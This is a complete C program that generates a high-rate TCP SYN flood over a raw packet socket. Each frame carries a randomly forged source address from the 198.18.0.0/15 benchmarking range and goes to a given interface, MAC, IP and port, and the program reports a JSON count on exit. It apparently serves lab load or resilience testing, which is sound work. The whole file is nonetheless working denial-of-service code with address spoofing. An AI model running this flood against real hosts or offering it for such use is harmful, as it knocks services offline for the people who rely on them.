/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * A flood of SYNs from addresses that are nobody's: 198.18.0.0/15, at random.
 *
 *   flood INTERFACE MAC ADDRESS PORT RATE
 *
 * From the interface to the host with that MAC address, RATE a second, until SIGTERM; then one
 * line of JSON says how many in how long.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH_MAX 256
#define TICK_NS	  1000000 /* between two batches */

struct frame {
	struct ether_header eth;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

struct flood {
	int fd;
	struct frame frame; /* what all have in common */
	struct frame frames[BATCH_MAX];
	struct iovec parts[BATCH_MAX];
	struct mmsghdr messages[BATCH_MAX];
	uint64_t chance; /* never 0 */
};

static volatile sig_atomic_t stopping;

static void on_signal(int number)
{
	(void)number;
	stopping = 1;
}

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * 1000000000 + (uint64_t)now.tv_nsec;
}

/* xorshift64 (Marsaglia, "Xorshift RNGs", 2003) */
static uint64_t chance_next(uint64_t *state)
{
	*state ^= *state << 13;
	*state ^= *state >> 7;
	*state ^= *state << 17;
	return *state;
}

static uint32_t sum_words(const void *data, size_t size, uint32_t sum)
{
	const uint8_t *bytes = data;

	for (size_t i = 0; i < size; i += 2)
		sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
	return sum;
}

static uint16_t fold_be(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void make_frame(struct flood *flood, struct frame *frame)
{
	uint64_t chance = chance_next(&flood->chance);

	*frame = flood->frame;
	frame->ip.saddr = htonl(0xc6120000 | (uint32_t)(chance & 0x1ffff));
	frame->tcp.source = htons((uint16_t)(1024 + (chance >> 17) % 64000));
	frame->tcp.seq = (uint32_t)(chance >> 32);
	frame->ip.check = fold_be(sum_words(&frame->ip, sizeof(frame->ip), 0));
	frame->tcp.check = fold_be(
		sum_words(&frame->tcp, sizeof(frame->tcp),
			  sum_words(&frame->ip.saddr, 8, IPPROTO_TCP + sizeof(frame->tcp))));
}

static int send_batch(struct flood *flood, unsigned int n)
{
	for (unsigned int i = 0; i < n; i++) {
		make_frame(flood, &flood->frames[i]);
		flood->parts[i] = (struct iovec){&flood->frames[i], sizeof(struct frame)};
		flood->messages[i].msg_hdr = (struct msghdr){.msg_iov = &flood->parts[i],
							     .msg_iovlen = 1};
	}
	return sendmmsg(flood->fd, flood->messages, n, 0);
}

/* By a timetable: what is late is sent as soon as can be. */
static void run(struct flood *flood, uint64_t rate)
{
	uint64_t began = now_ns(), sent = 0;

	while (!stopping) {
		uint64_t due = (now_ns() - began) * rate / 1000000000;
		int n = 0;

		if (due > sent)
			n = send_batch(flood, (unsigned int)(due - sent < BATCH_MAX ? due - sent
										    : BATCH_MAX));
		sent += n > 0 ? (uint64_t)n : 0;
		if (n < BATCH_MAX)
			nanosleep(&(struct timespec){.tv_nsec = TICK_NS}, NULL);
	}
	printf("{\"sent\": %lu, \"seconds\": %.3f}\n", sent, (double)(now_ns() - began) / 1e9);
}

static int set_up(struct flood *flood, char **arguments)
{
	struct sockaddr_ll where = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
	struct frame *frame = &flood->frame;
	uint8_t *mac = frame->eth.ether_dhost;

	frame->eth.ether_type = htons(ETH_P_IP);
	frame->ip = (struct iphdr){.version = 4,
				   .ihl = 5,
				   .ttl = 64,
				   .protocol = IPPROTO_TCP,
				   .tot_len = htons(sizeof(frame->ip) + sizeof(frame->tcp))};
	frame->tcp = (struct tcphdr){.doff = 5, .syn = 1, .window = htons(64240)};
	frame->tcp.dest = htons((uint16_t)atoi(arguments[4]));
	where.sll_ifindex = (int)if_nametoindex(arguments[1]);
	if (sscanf(arguments[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2],
		   &mac[3], &mac[4], &mac[5]) != 6 ||
	    inet_pton(AF_INET, arguments[3], &frame->ip.daddr) != 1 || !where.sll_ifindex)
		return -EINVAL;
	flood->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	if (flood->fd < 0 || bind(flood->fd, (struct sockaddr *)&where, sizeof(where)))
		return -errno;
	flood->chance = 1;
	return 0;
}

int main(int argc, char **argv)
{
	static struct flood flood;
	struct sigaction action = {.sa_handler = on_signal};
	int r;

	if (argc != 6)
		return fputs("usage: flood INTERFACE MAC ADDRESS PORT RATE\n", stderr), 2;
	sigaction(SIGTERM, &action, NULL);
	sigaction(SIGINT, &action, NULL);
	r = set_up(&flood, argv);
	if (r < 0) {
		fprintf(stderr, "flood: %s\n", strerror(-r));
		return 1;
	}
	run(&flood, strtoull(argv[5], NULL, 10));
	close(flood.fd);
	return 0;
}
